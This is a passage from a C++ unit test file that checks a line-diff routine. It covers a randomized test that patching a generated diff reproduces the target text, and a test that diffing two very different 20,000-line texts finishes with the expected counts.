  for (int round = 0; round < 2000; ++round) {
    const auto text = [&] {
      std::string made;
      for (unsigned lines = random(30); lines > 0; --lines)
        made += std::string(1, static_cast<char>('a' + random(6))) + "\n";
      if (!made.empty() && random(4) == 0) made.pop_back();
      return made;
    };
    const std::string before = text();
    std::string after = text();
    if (random(2) == 0 && before.size() > 4)
      after = before, after.insert(2 * (random(static_cast<unsigned>(before.size() / 2))), "z\n");
    const LineDiff diff = diff_lines("f", before, after, DiffOf::kChange);
    ASSERT_EQ(patched(before, diff.text), after) << before << "\n---\n" << after << "\n---\n" << diff.text;
  }
}

TEST(LineDiff, VeryDifferentTextsEndQuickly) {
  std::string before;
  std::string after;
  for (int i = 0; i < 20'000; ++i) before += "a" + std::to_string(i) + "\n", after += "b" + std::to_string(i) + "\n";
  const LineDiff diff = diff_lines("f", before, after, DiffOf::kChange);
  EXPECT_EQ(diff.added, 20'000U);
  EXPECT_EQ(diff.removed, 20'000U);
  EXPECT_FALSE(diff.cut);
}

}  // namespace
}  // namespace daimon::device
